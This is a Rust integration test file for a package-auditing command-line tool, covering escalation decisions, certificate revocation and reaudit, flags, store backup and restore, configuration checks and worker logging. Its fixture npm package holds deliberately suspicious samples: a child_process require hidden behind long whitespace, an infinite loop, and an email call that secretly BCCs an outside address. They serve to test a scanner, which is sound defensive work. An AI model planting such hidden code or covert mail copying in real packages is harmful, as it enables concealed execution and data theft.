//! The commands of operators, each as a process of its own.

use sigma_store::{Flag, FlagCategory, FlagState};
use sigma_testkit::NpmTarball;

use super::*;

/// A package about which the panels do not agree.
fn divided() -> NpmTarball {
    let pushed = format!("module.exports = 1;{}require('child_process');\n", " ".repeat(400));
    let copied = "const client = require('postmark');\n\
                  client.sendEmail({ To: 'x', Bcc: 'archive@collect.example.org', Subject: 's' });\n";
    NpmTarball::new("divided", "1.0.0")
        .file("index.js", "require('./a'); require('./b'); require('./c');\n")
        .file("a.js", "module.exports = {};\nfor (let i = 1; i < Infinity; i++) {\n  console.log('LIBERTY');\n}\n")
        .file("b.js", pushed)
        .file("c.js", copied)
}

#[tokio::test(flavor = "multi_thread")]
async fn escalations_flags_and_new_audits() {
    let scene = Scene::new();
    scene.eco.npm.add(divided().build());
    let audit = ["audit", "--package", "npm:divided@1.0.0"];
    let (code, out, _) = scene.run(&audit);
    assert_eq!(code, Some(3), "{out}");
    let (_, out, _) = scene.run(&["escalations", "list", "--format", "json"]);
    let open: Value = serde_json::from_str(&out).unwrap();
    let id = open[0]["escalationId"].as_str().unwrap();
    assert!(scene.run(&["escalations", "list"]).1.contains(id));
    let (_, out, _) = scene.run(&["escalations", "show", id]);
    let shown: Value = serde_json::from_str(&out).unwrap();
    assert!(!shown["report"]["distributions"][0]["findings"].as_array().unwrap().is_empty());
    let decide = ["escalations", "decide", id, "--by", "ada", "--reason", "ours"];
    assert_eq!(scene.run(&decide).0, Some(2), "one of --certify and --block");
    assert_eq!(scene.run(&[&decide[..], &["--certify", "blocked"]].concat()).0, Some(2));
    let (code, out, err) = scene.run(&[&decide[..], &["--certify", "caution"]].concat());
    assert_eq!(code, Some(0), "{err}");
    let certificate = out.split(' ').next().unwrap().to_owned();
    assert_eq!(scene.run(&[&decide[..], &["--block"]].concat()).0, Some(3), "once");
    let (code, out, _) = scene.run(&audit);
    assert_eq!(code, Some(0), "{out}");

    let why = ["--by", "ada", "--reason", "look again"];
    assert_eq!(scene.run(&[&["certificate", "revoke", &certificate][..], &why].concat()).0, Some(0));
    assert_eq!(scene.run(&audit).0, Some(1));
    let reaudit = [&["certificate", "reaudit", &certificate][..], &why].concat();
    let (code, out, _) = scene.run(&reaudit);
    assert!(code == Some(0) && out.starts_with("job_"), "{out}");
    assert_eq!(scene.run(&["worker", "--until-idle"]).0, Some(0));
    let (_, out, _) = scene.run(&["escalations", "list", "--format", "json"]);
    let open: Value = serde_json::from_str(&out).unwrap();
    let id = open[0]["escalationId"].as_str().unwrap();
    assert_eq!(scene.run(&[&["escalations", "decide", id, "--block"][..], &why].concat()).0, Some(0));
    let (code, out, _) = scene.run(&audit);
    assert!(code == Some(1) && out.contains("BLOCKED"), "{out}");
    assert_eq!(scene.run(&reaudit).0, Some(3), "it was replaced, and is blocked");

    let hall = scene.hall().await;
    let flag = Flag {
        id: "flg_x".to_owned(),
        package: Some("npm:divided@1.0.0".parse().unwrap()),
        certificate,
        category: FlagCategory::FalseAlarm,
        text: "it is a test".to_owned(),
        contact: None,
        created_at: now(),
        state: FlagState::Open,
        settled_at: None,
    };
    hall.store().add_flag(&flag).await.unwrap();
    assert!(scene.run(&["flags", "list"]).1.contains("it is a test"));
    let settle = [&["flags", "settle", "flg_x", "--outcome", "upheld"][..], &why].concat();
    assert_eq!((scene.run(&settle).0, scene.run(&settle).0), (Some(0), Some(3)));
    assert_eq!(scene.run(&["flags", "list"]).1, "no flags\n");
    let (_, out, _) = scene.run(&["log", "--format", "json"]);
    let log: Value = serde_json::from_str(&out).unwrap();
    let told: Vec<_> = log.as_array().unwrap().iter().map(|entry| entry["action"].as_str().unwrap()).collect();
    assert_eq!(told, ["settle", "block", "decide", "reaudited", "reaudit", "revoke", "override", "decide"]);
    assert!(scene.run(&["log", "flg_x"]).1.contains("ada: settle flg_x upheld: look again"));
}

#[test]
fn a_store_is_backed_up_and_restored() {
    let scene = Scene::new();
    scene.eco.pypi.add(pure("demo", "1.0").build());
    assert_eq!(scene.run(&["audit", "--package", "pypi:demo@1.0"]).0, Some(0));
    let (backup, other) = (scene.folder.path().join("backup"), scene.folder.path().join("other"));
    let (backup, other) = (backup.to_str().unwrap(), other.to_str().unwrap());
    let (code, out, err) = scene.run(&["store", "backup", backup]);
    if scene.database.is_some() {
        assert!(code == Some(2) && err.contains("pg_dump"), "{err}");
        return;
    }
    assert!(code == Some(0) && out.contains("1  certificates backed up") && out.contains("1  distributions"), "{out}");
    assert_eq!(scene.run(&["store", "backup", backup]).0, Some(2), "nothing is written over");
    assert_eq!(scene.run(&["store", "restore", backup, "--store", other]).0, Some(0));
    assert_eq!(scene.run(&["store", "restore", backup, "--store", other]).0, Some(2), "nothing is written over");
    let show = ["show", "pypi:demo@1.0", "--format", "json"];
    let here = scene.run(&show);
    assert_eq!(here.0, Some(0));
    assert_eq!(scene.run(&[&show[..], &["--store", other]].concat()), here);
}

#[test]
fn the_configuration_is_checked() {
    let scene = Scene::new();
    let (code, out, err) = scene.run(&["config", "check"]);
    assert_eq!(code, Some(0), "{err}");
    let config = scene.folder.path().join("config.toml");
    assert!(out.contains(&format!("lease_seconds = 1  # {}:2\n", config.display())), "{out}");
    assert!(out.contains("# SIGMA_PYPI_INDEX\n") && out.contains("# SIGMA_STORE\n"), "{out}");
    let secret = "postgres://ada:hunter2@127.0.0.1:1/none";
    let (_, out, err) = scene.run(&["config", "check", "--database-url", secret]);
    assert!(out.contains("ada:***@127.0.0.1") && !(out + &err).contains("hunter2"));

    std::fs::write(&config, "[worker]\nleas_seconds = 1\njobs = \"all\"\n").unwrap();
    let (code, out, err) = scene.run(&["config", "check", "--database-url", "mysql://x"]);
    assert_eq!(code, Some(2), "{out}");
    assert!(
        err.contains("config.toml:2: unknown key `worker.leas_seconds`; did you mean `worker.lease_seconds`?"),
        "{err}"
    );
    assert!(err.contains("config.toml:3: worker.jobs: "), "{err}");
    std::fs::write(&config, "").unwrap();
    let (code, _, err) = scene.run(&["config", "check", "--database-url", "mysql://x:hunter2@y/z"]);
    assert!(code == Some(2) && err.contains("postgres://") && !err.contains("hunter2"), "{err}");

    let variables = [("SIGMA_SERVER__BURST", "7"), ("SIGMA_PRICES__HIGHCOMPLEX", "9"), ("SIGMA_SERVER__BURTS", "7")];
    let said = scene.command(&["config", "check"]).envs(variables).output().unwrap();
    let (out, err) = (String::from_utf8(said.stdout).unwrap(), String::from_utf8(said.stderr).unwrap());
    assert!(out.contains("\nburst = 7  # SIGMA_SERVER__BURST\n"), "{out}");
    assert!(out.contains("\nhighComplex = 9  # SIGMA_PRICES__HIGHCOMPLEX\n"), "{out}");
    assert!(
        err.contains("SIGMA_SERVER__BURTS: no variable of sigma has this name; did you mean `SIGMA_SERVER__BURST`?"),
        "{err}"
    );
    let jobs = scene.command(&["worker", "--until-idle"]).env("SIGMA_WORKER__JOBS", "0").output().unwrap();
    assert_eq!(jobs.status.code(), Some(2), "what is checked is what holds");

    let (_, defaults, _) = scene.run(&["config", "defaults"]);
    std::fs::write(&config, &defaults).unwrap();
    assert_eq!(scene.run(&["config", "check"]).0, Some(0));
}

/// Whoever runs a worker sees that it works, in the form that their collector of logs reads.
#[test]
fn a_worker_tells_what_it_does() {
    let scene = Scene::new();
    let said = scene.command(&["worker", "--until-idle", "--log-format", "json"]).output().unwrap();
    let lines = String::from_utf8(said.stderr).unwrap();
    let first: Value = serde_json::from_str(lines.lines().next().expect("a line")).unwrap();
    assert_eq!(
        (&first["fields"]["message"], &first["fields"]["worker.jobs"]),
        (&"working".into(), &4.into()),
        "{lines}"
    );
}
